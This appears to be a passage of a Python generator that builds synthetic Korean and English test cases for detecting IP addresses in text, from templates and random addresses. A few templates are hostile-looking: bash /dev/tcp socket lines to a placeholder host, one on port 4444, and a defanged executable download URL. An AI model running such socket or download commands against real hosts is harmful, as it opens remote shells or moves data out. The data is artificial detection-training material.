Server={4};Database=erp
jdbc:oracle:thin:@{4}:1521:orcl
jdbc:mysql://{4}:3306/shop
postgres://app:x@{4}:5432/app
amqp://{4}
ldap://{4}:389
rtsp://{4}/live
http://{4}
https://{4}:8443/admin
<a href="http://{4}/">여기</a>
hxxp://{4}/a.exe
hxxp[:]//{4}/
case "{4}":
REMOTE_ADDR == '{4}'
if ip == "{4}":
require ip {4}
Allow from {4}
deny {4};
allow {4}/32;
server {4} weight=2;
server a {4}:80 check
  server web1 {4}:80 check
backend {4}
cache_peer {4} parent 3128 0
forwarders { {4}; {4}; };
also-notify { {4}; };
masters { {4}; };
acl trusted { {4}; };
listen-on { {4}; };
cip:{4}
v4 {4}
IPv4: {4}
NAME ADDRESS
a {4}
IP⇥COUNT
{4}⇥3
이름⇥접속지
김길동⇥{4}
일시,주소
2024-01-02,{4}
<b>{4}</b>님
{4}님이 입장하셨습니다
{4}님이 나갔습니다
사용자:{4}
{4}의 기여 내역
{4}(토론)
특수:기여/{4}
{4}로 찍힙니다
{4}로 찍히는데 저희 집 맞나요
{4}로 잡히더라구요
{4} 얘 또 왔네
{4} 오세요
{4}로 오세요
{4}였다가 {4}였다가
집에서 보면 {4}, 밖에서 보면 {4}
와이파이는 {4}, LTE는 {4}
{4} is our staging box
{4} is our server
{4} was the attacker
{4} hangs
Curl to {4} hangs
forwards to {4}
hostaddr {4}
externalIPs: {4}
ExternalIPs: {4}
IpAddress {4}
Special:Contributions/{4}
from {4} to 10.0.0.5
127.0.0.1 -> {4}
{4} -> 10.0.0.5
{4} 핑이 180 나옴
DHCPACK on {4} to 00:11:22:33:44:55
? ({4}) at 00:11:22:33:44:55 on en0
익명({4})
ㅇㅇ({4})
비회원 {4}
회선 종단 {4}
백본 {4} 장애
REM {4}
exec 3<>/dev/tcp/{4}/80
/dev/tcp/{4}/4444
"""
NETWORK = """
서버|웹서버|웹 서버|게임 서버|메일 서버|디비 서버|DB 서버|프록시|호스트|주소|서버 주소|공인 주소|외부 주소|고정 주소|접속 주소|접속지|접속처|발신지|출발지|목적지|게이트웨이|라우터|공유기|네임서버|원격지|상대방|공격자|공격지|해커|범인|봇|좀비 PC|
감염 PC|경유지|C2|C&C 서버|유포지|유포 서버|명령 서버|스캐너|크롤러|방문자|접속자|이용자|사용자|가입자|작성자|글쓴이|편집자|반달|차단 대상|차단 목록|허용 목록|화이트리스트|방화벽|보안 장비|스위치|AP|카메라|CCTV|나스|NAS|프린터|단말|PC|노트북|
인스턴스|노드|마스터|슬레이브|마스터 노드|워커 노드|브로커|로드밸런서|클러스터|VM|가상머신|백업 서버|개발 서버|운영 서버|스테이징 서버|테스트 서버|배스천|점프 호스트|VPN|VPN 서버|터널|피어|상대 장비|회선|대역|망|본사|지사|학교|회사|집|사무실|연구실|
pc방|KT|SKT|LGU+|카페24|가비아|AWS|애저|아마존|EC2|라이트세일|오라클 클라우드|네이버 클라우드|클라우드플레어|구글봇|네이버봇|빙봇
"""
NETWORK_FRAMES = r"""
{word} {4}
{word} {4}에 접속했습니다
{word} {4}에서 접속
{word} {4}에서 로그인 시도
{word} {4}에서 요청이 들어옵니다
{word} {4}로 접속하세요
{word} {4}로 연결이 안 됩니다
{word} {4}로 패킷이 나갑니다
{word} {4}가 차단되었습니다
{word} {4}를 차단했습니다
{word} {4}을 추가해 주세요
{word} {4} 좀 막아 주세요
{word} {4} 죽었나요
{word} {4} 응답 없음
{word} {4} 느립니다
{word} {4} 점검
{word} {4}은 어제부터 먹통
{word} {4}와 통신
{word} {4}까지 핑이 갑니다
{word} {4}의 22번 포트
{word} {4}:8080
{word}({4})
{word}({4})에서 내려받은 파일
{word}({4})로 보낸 패킷
{word}가 {4}로 나옵니다
{word}는 {4}입니다
{word}은 {4}이고 포트는 8080
{word}: {4}
{word} : {4}
- {word}: {4}
* {word} - {4}
{word} = {4}
{word} → {4}
{word}⇥{4}
| {word} | {4} |
{word},{4}
{word}이 {4}에서 {4}로 바뀌었습니다
{word} {4}, {4}
{word} {4} / {4}
# {word} {4}
"{word}": "{4}"
[{word}] {4}
어제 {word} {4}에 붙었어요
{4} ({word})
{4} {word}
{4}는 {word}입니다
{4}이 {word}로 확인
{4}⇥{word}
{4},{word}
{4} # {word}
"""
MORE_NETWORK = """
오리진|오리진 서버|레지스트라|라이선스 서버|업데이트 서버|인증 서버|활성화 서버|예약 서버|성적 서버|결제 서버|문자 서버|청구 서버|영상 서버|중계 서버|수집 서버|색인 서버|액티브|스탠바이|이중화 서버|운영 DB|개발 DB|예비 서버|
녹화기|출입 통제기|지문 인식기|키오스크|포스|단말기|카드 단말기|복합기|교환기|전화기|UPS|팩스 서버|관제 서버|센서|게이트웨이 장비|무선 AP|허브|콘솔|관리 페이지|홈페이지|실습 서버|과제 서버|협력사|지점|매장|고객사|고객 PC|
교내|사내|자택|재택 PC|업무용 PC|외부 업체|점검 업체|신청인|주문자|피의자|피고인|신고자|발송 서버|수신 서버|상대 은행|은행|통신사|가입 회선|전용 회선|고정 회선|할당 주소|변경 주소|이전 주소|기존|변경|신규|1차|2차|본점|본관|
update server|update host|license server|registrar|PBX|NVR|DVR|camera|controller|kiosk|POS terminal|PLC|sensor|gateway|switch|access point|upstream|origin|
standby|primary|secondary|bastion|jump host|build server|mail relay|monitoring host|support team|the vendor|campus proxy|our office|the attacker|bot|scanner
"""
VERSION_KEYS = """
version|ver|Version|VERSION|app_version|appVersion|agentVersion|fw|fw_ver|fw_version|firmware|firmwareVersion|swVersion|sw_version|software|driver|
driverVersion|FileVersion|ProductVersion|AssemblyVersion|build|buildNumber|build_id|release|rev|revision|tag|sdk|sdkVersion|engine|engine_version|runtime|
kernel|plugin|pluginVersion|module|patch|hotfix|bios|uefi|bootloader|image|package|release_name|since|minVersion|maxVersion|min_version|target_version|
current_version|latest|latestVersion|newVersion|oldVersion|installed|required|expected|supported|schema|protocol|dll|assembly|browser|chrome|electron
"""
TITLES = """
버전|펌웨어|펌웨어 버전|F/W|S/W|소프트웨어|소프트웨어 버전|설치 버전|현재 버전|최신 버전|드라이버|빌드|릴리스|패치|에이전트 버전|엔진|모듈 버전|대상 버전|적용 버전|version|Version|ver|firmware|Firmware|build|Build|release|driver|fw_version|
app_version|Installed|Latest|조항|절|항목 번호|분류 번호|자재 코드|section|clause|part no
"""
ADDRESS_TITLES = """
IP|ip|IP 주소|공인 IP|공인IP|주소|접속지|접속 주소|아이피|출발지|목적지|서버 주소|대상 IP|차단 IP|게이트웨이|외부 주소|녹화기 주소|호스트|client|client_ip|src|dst|source|destination|host|Host|address|Address|ip_address|remote_addr|endpoint|public_ip|
server|node|peer|EXTERNAL-IP|External IP
"""
TABLE_FRAMES = r"""
이름⇥{word}⏎가나⇥{x}
모델⇥{word}⇥비고⏎A-1⇥{x}⇥없음⏎B-2⇥{x}⇥없음
| 이름 | {word} |⏎|---|---|⏎| 본점 | {x} |⏎| 지점 | {x} |
| Name | {word} | Note |⏎|---|---|---|⏎| a | {x} | ok |
이름,{word},비고⏎가나,{x},확인⏎다라,{x},확인
id,{word}⏎1,{x}⏎2,{x}
date,{word},count⏎2024-03-02,{x},4
{word}: {x}⏎이름: 가나
[{word}]⏎{x}⏎{x}
"""
KEYS = """
server|host|hostname|addr|address|ip|client|remote|peer|proxy|gateway|endpoint|source|destination|src|dst|origin|listen|bind|node|master|slave|replica|
leader|broker|upstream|backend|target|router|resolver|relay|smarthost|dns|ntp|syslog|target_host|db_host|redis_host|mysql_host|api_server|public_ip|
client_ip|remote_addr|source_address|src_ip|dest_ip|dstip|srcip|ipAddress|clientIp|remoteHost|hostAddress|serverAddr|advertise_addr|bind_address|
listen_addresses|node_ip|elastic_ip|external_ip|floating_ip|nat_ip|host_ip|pod_ip|loadBalancerIP|publicIp|left|right|rhost|rip|lip|nat|wan|eth0|uplink|
next-hop|via|neighbor|radius-server|tftp|snmp|ldap|kdc|smtp|imap|vip
"""
KEY_FRAMES = r"""
{word}={4}
{word}: {4}
{word} = {4}
{word} = "{4}"
{word} = '{4}';
{word}="{4}"
"{word}": "{4}"
"{word}":"{4}",
'{word}': '{4}',
{word}=>"{4}"
{word}: "{4}"
  {word}: {4}
{word} {4}
{word} {4};
{word} {4}:8080
{word}={4}:9092,{4}:9092
{word}: [{4}, {4}]
--{word}={4}
--{word} {4}
-D{word}={4}
{word}: http://{4}:3000
<{word}>{4}</{word}>
set {word} {4}
{word}({4})
{word} [{4}]
{word} ({4})
connection from {word} {4} closed
the {word} is {4}
our {word} {4} is down
{word} is at {4}
{word} {4} unreachable
"""


MIXED_FRAMES = r"""
{word} {v} 사용자가 {4}에서 로그인했습니다
{word} {v} 쓰는데 {4} 접속이 안 돼요
{word} {v}로 {4} 열면 빈 화면
{word} {v}이 설치된 {4}를 재부팅
{4}의 {word}를 {v}로 올렸다
{4}에 {word} {v} 설치 완료
{4} 서버는 아직 {word} {v}입니다
{4} ({word} {v})
{4} {word} {v}
{4}: {word} {v}
{4} - {word}/{v}
{4} "{word}/{v}"
"{word}/{v}" {4}
{word}/{v} from {4}
{word} {v} on {4}
{word} {v} (host {4})
{word} {v} listening on {4}:8080
Upgraded {word} on {4} to {v}
We run {word} {v} at {4}
client {4} uses {word} {v}
{4} reports {word} version {v}
{"ip": "{4}", "agent": "{word}", "version": "{v}"}
{"version": "{v}", "host": "{4}"}
version={v} host={4}
host={4} version={v}
ip={4} ver={v} app={word}
{4},{word},{v}
{word},{v},{4}
{4}⇥{word}⇥{v}
| {4} | {word} | {v} |
| {word} | {v} | {4} |
버전 {v}, 접속 {4}
버전: {v}⏎서버: {4}
서버: {4}⏎버전: {v}
주소 {4} 버전 {v}
앱 {v} / 단말 {4}
펌웨어 {v} 장비 {4}
클라이언트 {v} 접속지 {4}
IP {4}, {word} {v} 이상 필요
공인 IP는 {4}이고 펌웨어는 {v}입니다
펌웨어는 {v}이고 공인 IP는 {4}입니다
host: {4}⏎version: {v}
version: {v}⏎host: {4}
server_ip = "{4}"⏎version = "{v}"
connect {4} failed (client {v})
{word} {v} 취약점을 노린 {4}발 공격
{4}에서 {word} {v} 취약점을 스캔했다
"""


def crossed_cases(seed: int = 1) -> list[Case]:
    """Every word in some frames and every frame with some words, invented ones too; the numbers are drawn at random."""
    draw = random.Random(seed)
    products, networks, keys = map(_values, (PRODUCTS, NETWORK + MORE_NETWORK, KEYS))
    texts = []
    for words, frames, count in (
        (products, _lines(PRODUCT_FRAMES), 8),
        (networks, _lines(NETWORK_FRAMES), 8),
        (keys, _lines(KEY_FRAMES), 7),
    ):
        texts += [frame.replace("{word}", word) for word in words for frame in draw.sample(frames, count)]
        texts += [frame.replace("{word}", word) for frame in frames for word in draw.sample(words, 4)]
    for frame in draw.sample(_lines(KEY_FRAMES), 12):
        texts += [
            frame.replace("{word}", word).replace("{4}", "{v}")
            for word in draw.sample(_values(VERSION_KEYS), 8)
        ]
    for titles, number in ((TITLES, "{v}"), (ADDRESS_TITLES, "{4}")):
        for title in _values(titles):
            texts += [
                frame.replace("{word}", title).replace("{x}", number)
                for frame in draw.sample(_lines(TABLE_FRAMES), 3)
            ]
    for frames, count in ((_lines(PRODUCT_FRAMES), 3), (_lines(NETWORK_FRAMES), 2)):
        texts += [frame.replace("{word}", _invent(draw)) for frame in frames for _ in range(count)]
    texts += [frame for frame in (*_lines(VERSION_FRAMES), *_lines(ADDRESS_FRAMES)) for _ in range(2)]
    texts += [
        frame.replace("{word}", word) for frame in _lines(MIXED_FRAMES) for word in draw.sample(products, 3)
    ]
    for frame in _lines(SECTION_FRAMES):
        texts += [frame, frame.replace("{s}", "{v}")]
    return [_fill(text.replace("⏎", "\n").replace("⇥", "\t"), draw) for text in texts]


def _invent(draw: random.Random) -> str:
    """A name that nobody knows: products have ever new ones."""
    syllables = "가나다라마바사아자차카타파하고노도로모보소오조초코토포호구누두루무부수우주추쿠투푸후기니디리미비시이지치키티피히"
    parts = (
        "ba",
        "ce",
        "di",
        "fo",
        "gu",
        "ka",
        "lex",
        "mor",
        "nix",
        "pra",
        "quo",
        "rel",
        "sto",
        "tun",
        "vex",
        "wyn",
        "zo",
    )
    if draw.random() < 0.5:
        words = (
            "".join(draw.choices(syllables, k=draw.randint(2, 4))) for _ in range(draw.choice((1, 1, 2)))
        )
        return " ".join(words)
    name = "".join(draw.choices(parts, k=draw.randint(1, 3)))
    return draw.choice(
        (name, name.title(), name.title(), name.upper(), f"{name.title()} {draw.choice(parts).title()}")
    )


def _lines(text: str) -> list[str]:
    return text.strip("\n").split("\n")


def _values(text: str) -> list[str]:
    return [value for value in text.replace("\n", "").split("|") if value]


def _fill(frame: str, draw: random.Random) -> Case:
    text, spans = "", []
    for part in re.split(r"(\{[4vs]\})", frame):
        number = _DRAWN[part](draw) if part in _DRAWN else part
        if part == "{4}":
            spans.append(Span(len(text), len(text) + len(number), "ip"))
        text += number
    return Case(text, tuple(spans), "ip", "", 0)


def draw_address(draw: random.Random) -> str:
    """A public address; 45 of 100 begin with a number below 32."""
    while True:
        first = draw.randint(1, 31) if draw.random() < 0.45 else draw.randint(32, 223)
        numbers = [first, draw.randint(0, 255), draw.randint(0, 255), draw.randint(1, 254)]
        if max(numbers) >= 40 and not _is_private(*numbers[:3]):
            return ".".join(map(str, numbers))


def _is_private(a: int, b: int, c: int) -> bool:
    return (
        a in (10, 127)
        or (a, b) in ((192, 168), (169, 254))
        or (a == 172 and 16 <= b < 32)
        or (a == 100 and 64 <= b < 128)
    )


def draw_version(draw: random.Random) -> str:
    """A browser's, a common one, or one that looks like an address."""
    which = draw.random()
    if which < 0.35:
        numbers = [draw.randint(60, 140), 0, draw.randint(0, 255), draw.randint(1, 255)]
    elif which < 0.75:
        numbers = [draw.randint(1, 30), draw.randint(0, 40), draw.randint(0, 99), draw.randint(0, 255)]
    elif which < 0.9:
        numbers = [draw.randint(1, 30), draw.randint(0, 255), draw.randint(0, 255), draw.randint(0, 99)]
    else:
        numbers = [draw.randint(31, 130), draw.randint(0, 99), draw.randint(0, 255), draw.randint(0, 99)]
    return ".".join(map(str, numbers))


def draw_section(draw: random.Random) -> str:
    return ".".join(
        map(str, [draw.randint(1, 12), draw.randint(1, 12), draw.randint(1, 40), draw.randint(1, 9)])
    )


_DRAWN = {"{4}": draw_address, "{v}": draw_version, "{s}": draw_section}
